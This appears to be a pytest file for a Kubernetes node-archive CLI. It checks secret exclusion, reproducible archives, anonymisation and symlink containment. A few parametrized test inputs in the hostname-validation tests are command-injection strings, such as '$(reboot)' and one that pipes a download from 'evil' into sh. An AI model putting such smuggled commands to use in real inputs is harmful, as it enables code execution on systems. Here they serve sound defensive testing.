"""An archive holds what a question about a node needs, nothing secret, and always the same bytes."""

from __future__ import annotations

import gzip
import json
import os
import shutil
import socket
import tarfile
from pathlib import Path
from typing import Any

import pytest
from tests.cli.command import EXAMPLES, Answered, mooring, typed
from tests.cli.made_up_node import SECRET, kubelet_pods, make_root, write_pods
from tests.values import unpack

from mooring.engine.core.cpuset import CPUSet
from mooring.inputs.machines.isolation import read_isolation
from mooring.inputs.machines.tree import FolderTree, open_tree

NEW_PODS = """
apiVersion: v1
kind: Pod
metadata: {name: new}
spec:
  containers:
  - name: c
    resources: {limits: {cpu: 3, memory: 1Gi}}
"""


@pytest.fixture
def root(tmp_path: Path) -> Path:
    return make_root(tmp_path / "root")


@pytest.fixture
def pods(tmp_path: Path) -> Path:
    return write_pods(tmp_path / "pods.json", kubelet_pods())


@pytest.fixture
def archive(tmp_path: Path) -> Path:
    return tmp_path / "node.tar.gz"


@pytest.fixture
def with_state(root: Path, pods: Path) -> Path:
    """Let the node run the pods, so that it has state files."""
    config = root / "etc/kubernetes/kubelet.yaml"
    saved = root / "var/lib/kubelet"
    mooring("plan", "-f", pods, "--machine", root, "--config", config, "--save-state", saved, code=0)
    return root


def collected(root: Path, to: Path, *more: str | Path) -> Answered:
    return mooring("collect", "--root", root, "--no-kubectl", "--to", to, *more, code=0)


def about(archive: Path) -> Any:
    return json.loads(content(archive)["mooring-node/mooring-node.json"])


def content(archive: Path) -> dict[str, bytes]:
    with tarfile.open(archive) as tar:
        return {member.name: tar.extractfile(member).read() for member in tar if member.isreg()}  # type: ignore[union-attr]


def parts(archive: Path) -> dict[str, Any]:
    return {part["name"]: part for part in about(archive)["parts"]}


def test_nothing_secret_gets_into_the_archive(with_state: Path, pods: Path, tmp_path: Path, archive: Path) -> None:
    collected(with_state, archive, "--pods", pods)
    assert SECRET.encode() not in gzip.decompress(archive.read_bytes())
    assert str(tmp_path).encode() not in gzip.decompress(archive.read_bytes())


@pytest.fixture(autouse=True)
def _at_one_time(monkeypatch: pytest.MonkeyPatch) -> None:
    """Collect at the time of the example."""
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1789371000")


def unnamed(document: dict[str, Any]) -> dict[str, Any]:
    """Return a document without the name of its machine, which is that of the archive's node."""
    return {**document, "name": "", "machine": ""}


def test_the_plan_from_the_archive_is_the_plan_from_the_parts(
    with_state: Path, pods: Path, tmp_path: Path, archive: Path
) -> None:
    new = tmp_path / "new.yaml"
    new.write_text(NEW_PODS, encoding="utf-8")
    collected(with_state, archive, "--pods", pods, "--config", with_state / "etc/kubernetes/kubelet.yaml")
    asked = ("plan", "-f", new, "-o", "json")
    state, config = with_state / "var/lib/kubelet", with_state / "etc/kubernetes/kubelet.yaml"
    # The pods in the order in which they were started, which kubectl does not keep.
    ordered = write_pods(tmp_path / "ordered.json", {"kind": "List", "items": kubelet_pods()["items"][::-1]})
    whole = mooring(*asked, "--node", archive).document
    apart = mooring(*asked, "--machine", archive, "--state", state, "--config", config, "--active", ordered).document
    # A finding names the file in which the misspelt field stands.
    named = [finding["message"] for finding in whole["findings"] if finding["code"] != "MOOR-583"]
    assert [message.partition(": ")[2].replace("kubelet/config.json: ", "") for message in named] == [
        finding["message"].partition(": ")[2] for finding in apart["findings"]
    ]
    assert unnamed({**whole, "findings": []}) == unnamed({**apart, "findings": []})
    assert [pod["name"] for pod in whole["pods"]] == ["shop-2", "shop-1", "shop-0", "new"]


def test_who_else_may_run_is_told_the_same(root: Path, archive: Path) -> None:
    online = CPUSet.parse("0-15")
    collected(root, archive)
    facts = read_isolation(open_tree(archive), online)
    assert facts == read_isolation(FolderTree(str(root)), online)
    assert facts.spared is not None


def test_the_same_node_gives_the_same_bytes(with_state: Path, pods: Path, tmp_path: Path) -> None:
    first, second = tmp_path / "first.tar.gz", tmp_path / "second.tar.gz"
    collected(with_state, first, "--pods", pods)
    for path in with_state.rglob("*"):
        if not path.is_symlink():
            os.utime(path, (1, 1))
    collected(with_state, second, "--pods", pods)
    assert first.read_bytes() == second.read_bytes()
    with tarfile.open(first) as tar:
        members = tar.getmembers()
    assert {(member.mtime, member.uid, member.gid, member.uname, member.gname) for member in members} == {
        (0, 0, 0, "", "")
    }
    assert [member.name for member in members] == sorted(member.name for member in members)


def test_a_misspelt_field_keeps_its_name_and_loses_its_value(root: Path, archive: Path) -> None:
    with (root / "etc/kubernetes/kubelet.yaml").open("a", encoding="utf-8") as config:
        config.write('cpuManagerPolcyOptions: {full-pcpus-only: "true"}\n')
    collected(root, archive)
    assert json.loads(content(archive)["mooring-node/kubelet/config.json"])["cpuManagerPolcyOptions"] is None
    assert "cpuManagerPolicyOptions" in mooring("plan", "-f", EXAMPLES / "pods.yaml", "--node", archive).err


def test_anonymous_archives_name_no_pod_namespace_node_or_service(with_state: Path, pods: Path, archive: Path) -> None:
    collected(with_state, archive, "--pods", pods, "--anonymous")
    unpacked = gzip.decompress(archive.read_bytes()).lower()
    for name in (b"shop", b"customer", b"edge-7", b"billing"):
        assert name not in unpacked
    items = json.loads(content(archive)["mooring-node/pods.json"])["items"]
    assert [pod["metadata"]["name"] for pod in items] == ["pod-3", "pod-2", "pod-1"]
    assert mooring("plan", "-f", EXAMPLES / "pods.yaml", "--node", archive).code in (0, 1)


def test_a_dry_run_writes_nothing(root: Path, tmp_path: Path) -> None:
    before = sorted(tmp_path.rglob("*"))
    answered = mooring("collect", "--root", root, "--no-kubectl", "--dry-run")
    assert (answered.code, sorted(tmp_path.rglob("*"))) == (0, before)
    assert "machine" in answered.out
    document = mooring("collect", "--root", root, "--no-kubectl", "--dry-run", "-o", "json").document
    assert (document["kind"], document["node"]) == ("NodeArchive", "edge-7")


def test_an_archive_can_go_to_standard_output_with_the_summary_aside(root: Path) -> None:
    answered = mooring("collect", "--root", root, "--no-kubectl", "--to", "-", encoding="latin-1")
    assert answered.out.encode("latin-1").startswith(b"\x1f\x8b")
    assert "machine" in answered.err


def test_what_is_missing_is_reported_with_its_reason(root: Path, archive: Path) -> None:
    collected(root, archive)
    found = parts(archive)
    assert found["pods"]["missing"] == "the cluster was not asked"
    assert found["state files"]["missing"] == "none could be read in /var/lib/kubelet"
    assert mooring("plan", "-f", EXAMPLES / "pods.yaml", "--node", archive, "-o", "json").document["pods"]


@pytest.mark.skipif(os.geteuid() == 0, reason="root reads everything")
def test_a_file_that_may_not_be_read_is_a_warning_and_the_rest_is_packed(root: Path, tmp_path: Path) -> None:
    (root / "proc/meminfo").chmod(0)
    assert "/proc/meminfo: is not packed: permission denied" in collected(root, tmp_path / "node.tar.gz").err


def test_a_file_that_is_too_large_is_a_warning_and_the_rest_is_packed(with_state: Path, archive: Path) -> None:
    state = with_state / "var/lib/kubelet/cpu_manager_state"
    with state.open("r+b") as file:
        file.truncate(9 * 2**20)
    assert "var/lib/kubelet/cpu_manager_state: is not packed: larger than" in collected(with_state, archive).err
    assert "mooring-node/kubelet/memory_manager_state" in content(archive)
    assert parts(archive)["state files"]["missing"] == "no cpu_manager_state"


def test_damaged_state_files_are_packed_byte_for_byte(root: Path, archive: Path) -> None:
    damaged = b'{"policyName":"static\xff\xfe'
    (root / "var/lib/kubelet").mkdir(parents=True)
    (root / "var/lib/kubelet/cpu_manager_state").write_bytes(damaged)
    collected(root, archive)
    assert content(archive)["mooring-node/kubelet/cpu_manager_state"] == damaged
    new = ("plan", "-f", EXAMPLES / "pods.yaml", "--config", root / "etc/kubernetes/kubelet.yaml", "-o", "json")
    apart = mooring(*new, "--machine", root, "--state", root / "var/lib/kubelet").document
    assert mooring(*new, "--node", archive).document["startError"] == apart["startError"]


def test_absolute_links_below_another_root_are_meant_below_it(root: Path, tmp_path: Path, archive: Path) -> None:
    (root / "mnt/disk").mkdir(parents=True)
    (root / "mnt/disk/cpu_manager_state").write_text("{}", encoding="utf-8")
    (root / "var/lib").mkdir(parents=True)
    (root / "var/lib/kubelet").symlink_to("/mnt/disk")
    (root / "mnt/disk/memory_manager_state").symlink_to(tmp_path / "outside")
    (tmp_path / "outside").write_text(SECRET, encoding="utf-8")
    collected(root, archive)
    assert content(archive)["mooring-node/kubelet/cpu_manager_state"] == b"{}"
    assert SECRET.encode() not in gzip.decompress(archive.read_bytes())


def test_documents_of_mooring_are_kept_whole(root: Path, tmp_path: Path, archive: Path) -> None:
    extra = tmp_path / "devices.yaml"
    devices = {"kind": "NodeDevices", "devices": {"nvidia.com/gpu": {"pci": {"class": "0302", "vendor": "10de"}}}}
    extra.write_text(json.dumps(devices), encoding="utf-8")
    config = root / "etc/kubernetes/kubelet.yaml"
    collected(root, archive, "--config", config, "--config", extra)
    assert json.loads(content(archive)["mooring-node/mooring/devices.json"]) == devices
    new = tmp_path / "new.json"
    pod = {"kind": "Pod", "metadata": {"name": "g"}, "spec": {"containers": [{"name": "c"}]}}
    pod["spec"]["containers"][0]["resources"] = {"limits": {"nvidia.com/gpu": 1}}  # type: ignore[index]
    new.write_text(json.dumps(pod), encoding="utf-8")
    answered = mooring("plan", "-f", new, "--node", archive, "-o", "json")
    assert answered.document["pods"][0]["devices"], answered


@pytest.mark.skipif(not Path("/sys/devices/system/cpu/online").exists(), reason="this computer has no sysfs to collect")
def test_this_computer_can_be_collected(archive: Path) -> None:
    collected(Path("/"), archive)

    def without_memory(document: Any) -> Any:
        # A virtual machine's memory may change at any moment.
        nodes = [{**node, "memoryBytes": 0, "hugepages": []} for node in document["numaNodes"]]
        return unnamed({**document, "numaNodes": nodes})

    packed = mooring("topology", "--node", archive, "-o", "json").document
    assert without_memory(packed) == without_memory(mooring("topology", "-o", "json").document)


@pytest.mark.parametrize("name", ["(none)", "edge-7.", "$(reboot)", "x" * 300])
def test_a_computer_with_a_name_that_no_node_can_have_is_packed_without(root: Path, archive: Path, name: str) -> None:
    (root / "etc/hostname").write_text(name, encoding="utf-8")
    collected(root, archive)
    assert mooring("show", "--node", archive, code=0).out.startswith("node")
    to = archive.with_name("other.tar.gz")
    refused = mooring("collect", "--root", root, "--no-kubectl", "--to", to, "--node-name", name, code=2)
    assert refused.complaint == f"mooring: --node-name: {name!r:.60} is no name that a node can have"


@pytest.mark.parametrize("version", ["banana", "2.0", "1.x"])
def test_what_is_no_version_is_not_packed(root: Path, tmp_path: Path, version: str) -> None:
    to = tmp_path / "node.tar.gz"
    answered = mooring("collect", "--root", root, "--no-kubectl", "--to", to, "--kubelet-version", version)
    assert (answered.code, answered.out, to.exists()) == (2, "", False)
    problem = f"--kubelet-version: '{version}' is not a kubelet version"
    assert answered.complaint == f"mooring: {problem}; write v1.34.4 or 1.34; known are 1.31 to 1.38"


def test_the_example_is_the_made_up_node(with_state: Path, pods: Path, tmp_path: Path, archive: Path) -> None:
    """Write it anew with MOORING_GOLDEN=write, and look at what changed."""
    example = EXAMPLES / "node"
    collected(with_state, archive, "--pods", pods, "--kubelet-version", "v1.37.1")
    unpack(archive, tmp_path)
    if os.environ.get("MOORING_GOLDEN") == "write":
        shutil.rmtree(example)
        shutil.copytree(tmp_path / "mooring-node", example, symlinks=True)
    here, there = unpacked(tmp_path / "mooring-node"), unpacked(example)
    for files in (here, there):
        files["mooring-node.json"] = json.dumps({**json.loads(files["mooring-node.json"]), "mooring": ""})
    assert here == there


def unpacked(folder: Path) -> dict[str, str]:
    """Return the files of a folder and the targets of its links, by path."""
    return {
        str(path.relative_to(folder)): f"-> {path.readlink()}" if path.is_symlink() else path.read_text("utf-8")
        for path in folder.rglob("*")
        if path.is_symlink() or path.is_file()
    }


# ``--node`` stands for machine, configuration, state and running pods; what is given besides replaces its part.


@pytest.fixture
def node(root: Path, pods: Path, archive: Path) -> Path:
    collected(root, archive, "--pods", pods, "--kubelet-version", "v1.37.1")
    return archive


@pytest.fixture
def small(tmp_path: Path) -> Path:
    file = tmp_path / "small.yaml"
    file.write_text(
        "kind: Pod\nmetadata: {name: small}\nspec: {containers: [{name: c, "
        "resources: {limits: {cpu: 2, memory: 64Mi}}}]}\n",
        encoding="utf-8",
    )
    return file


def names(*arguments: str | Path) -> list[tuple[str, bool]]:
    document = mooring("plan", *arguments, "-o", "json").document
    return [(pod["name"], pod.get("running", False)) for pod in document["pods"]]


def test_the_pods_of_the_archive_run_already(node: Path, small: Path) -> None:
    assert names("-f", small, "--node", node) == [
        ("shop-2", True),
        ("shop-1", True),
        ("shop-0", True),
        ("small", False),
    ]


def test_active_replaces_the_pods_of_the_archive(node: Path, small: Path, tmp_path: Path) -> None:
    running = write_pods(tmp_path / "running.json", kubelet_pods(1))
    assert names("-f", small, "--node", node, "--active", running) == [("shop-0", True), ("small", False)]


def test_a_machine_replaces_that_of_the_archive(node: Path, small: Path) -> None:
    asked = ("plan", "-f", small, "--node", node, "-o", "json")
    assert mooring(*asked).document["machine"].startswith("edge-7, captured 20")
    assert mooring(*asked, "--machine", "small-1s8").document["machine"] == "small-1s8"
    assert mooring("topology", "--node", node, "--machine", "small-1s8", "-o", "json").document["name"] == "small-1s8"


def test_a_configuration_replaces_that_of_the_archive(node: Path, small: Path, tmp_path: Path) -> None:
    none = tmp_path / "none.yaml"
    none.write_text("kind: KubeletConfiguration\ncpuManagerPolicy: none\n", encoding="utf-8")
    asked = ("plan", "-f", small, "--node", node)
    assert "exclusive" in mooring(*asked).out
    assert "exclusive" not in mooring(*asked, "--config", none).out


def test_state_files_replace_those_of_the_archive(node: Path, small: Path, tmp_path: Path) -> None:
    state = tmp_path / "state"
    state.mkdir()
    (state / "cpu_manager_state").write_text("torn", encoding="utf-8")
    asked = ("plan", "-f", small, "--node", node, "-o", "json")
    assert "startError" not in mooring(*asked).document
    assert "startError" in mooring(*asked, "--state", state).document


def test_a_pod_of_the_archive_cannot_be_admitted_once_more(node: Path, tmp_path: Path) -> None:
    again = write_pods(tmp_path / "again.json", kubelet_pods(1))
    assert "is also in the node archive" in mooring("plan", "-f", again, "--node", node, code=2).err


def test_a_node_can_be_shown_with_its_pods_and_nothing_else(node: Path) -> None:
    assert "customer/shop-0" in mooring("show", "--node", node, code=0).out


@pytest.mark.parametrize("verb", ["plan", "upgrade"])
@pytest.mark.parametrize("below", ["", "kubelet", "link"])
def test_an_unpacked_archive_is_never_written(node: Path, small: Path, tmp_path: Path, verb: str, below: str) -> None:
    unpack(node, tmp_path)
    folder = tmp_path / "mooring-node"
    (folder / "link").symlink_to(folder / "kubelet")
    before = {file: file.read_bytes() for file in folder.rglob("*") if file.is_file()}
    assert (folder / "kubelet").is_dir()
    answered = mooring(verb, "-f", small, "--node", folder, "--save-state", folder / below, code=2)
    assert answered.complaint == (
        f"mooring: {folder / below}: --save-state: is also the directory of --node, whose files are never written; "
        "name another directory"
    )
    assert {file: file.read_bytes() for file in folder.rglob("*") if file.is_file()} == before


# Answers about a node archive name its node, and when it was captured.


NODE = ("--node", EXAMPLES / "node")
TITLE = "edge-7, captured 2026-09-14T07:30:00Z"


@pytest.mark.parametrize(
    "asked",
    [
        *("plan PODS", "show", "show -o svg", "show -o html", "topology", "explain PODS", "explain PODS -o svg"),
        *("whatif PODS", "whatif PODS --set topologyManagerPolicy=none", "capacity --shape cpu=1,memory=1Gi"),
        *("compare PODS --all-options", "resize PODS core/upf-0/forwarder --cpu 4", "doctor", "doctor --lint"),
        "publish --dry-run",
    ],
)
def test_texts_and_pictures_name_the_node_and_the_time(asked: str) -> None:
    answered = mooring(*typed(asked), *NODE, columns=200)
    assert answered.code in (0, 1), answered.err
    assert TITLE in answered.out


def test_what_is_published_has_the_name_of_the_archives_node(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("NODE_NAME", raising=False)
    names = {
        item["metadata"]["name"] for item in mooring("publish", "--dry-run", *NODE, "-o", "json").document["items"]
    }
    assert "edge-7" in names
    assert socket.gethostname().lower() not in names
    given = mooring("publish", "--dry-run", *NODE, "--node-name", "other", "-o", "json").document["items"]
    assert "other" in {item["metadata"]["name"] for item in given}


def test_collect_writes_when_it_was(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    root = make_root(tmp_path / "root")
    collected = ("collect", "--root", root, "--no-kubectl", "--node-name", "n1", "--dry-run", "-o", "json")
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "86400")
    assert json.loads(mooring(*collected).out)["captured"] == "1970-01-02T00:00:00Z"
    monkeypatch.delenv("SOURCE_DATE_EPOCH")
    assert json.loads(mooring(*collected).out)["captured"] > "2026"


@pytest.mark.parametrize("name", ["edge-7; curl evil|sh #", "\x1b]0;owned\x07", "$(reboot)", "--all"])
@pytest.mark.parametrize("verb", ["migrate", "doctor", "show"])
def test_an_archive_of_a_node_that_no_node_is_called_is_refused(name: str, verb: str, tmp_path: Path) -> None:
    node = tmp_path / "node"
    shutil.copytree(EXAMPLES / "node", node)
    about = json.loads((node / "mooring-node.json").read_text(encoding="utf-8"))
    (node / "mooring-node.json").write_text(json.dumps(about | {"node": name}), encoding="utf-8")
    answered = mooring(verb, "--node", node, code=2)
    assert "mooring-node.json" in answered.complaint
    assert "node: " in answered.complaint
    assert "is not a valid name; " in answered.complaint
